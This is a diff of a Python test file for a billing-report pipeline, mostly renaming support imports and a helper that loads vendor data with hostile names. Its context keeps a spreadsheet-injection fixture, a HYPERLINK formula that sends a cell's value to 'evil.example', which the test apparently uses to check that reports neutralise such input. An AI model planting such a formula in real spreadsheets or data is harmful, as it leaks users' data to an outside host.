@@ -13,9 +13,9 @@ from pax8_pipeline.reports.page.context import ReportContext
 from pax8_pipeline.settings import Policy, UsagePolicy
 from pax8_pipeline.warehouse import build
 from pax8_pipeline.warehouse.connection import Warehouse
-from pax8_pipeline_tests.support.books import TODAY, company, plan_context, subscription
-from pax8_pipeline_tests.support.shelf import build_all
-from pax8_pipeline_tests.support.usage_checks import bill, item, items_read, usage_books
+from pax8_pipeline_tests.support.built_tables import build_all
+from pax8_pipeline_tests.support.usage_checks import bill, item, items_read, usage_warehouse
+from pax8_pipeline_tests.support.vendor_data import TODAY, company, plan_context, subscription
 
 POLICY = Policy(usage=UsagePolicy(first_month="2026-07"))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
@@ -38,10 +38,10 @@ class Made:
         return self.page.read_text(encoding="utf-8")
 
 
-def hostile_books(folder: Path) -> Warehouse:
-    """Load books with a change, a loss, usage of two months, and names that try to be something else."""
+def hostile_names(folder: Path) -> Warehouse:
+    """Load vendor data with a change, a loss, usage of two months, and names that try to be something else."""
     june = item(**{"startPeriod": "2026-06-01", "endPeriod": "2026-06-30", "total": 20})
-    warehouse = usage_books(
+    warehouse = usage_warehouse(
         folder,
         item(productName=SCRIPT),
         item(companyId=None, details=FORMULA, total=30, costTotal=21),
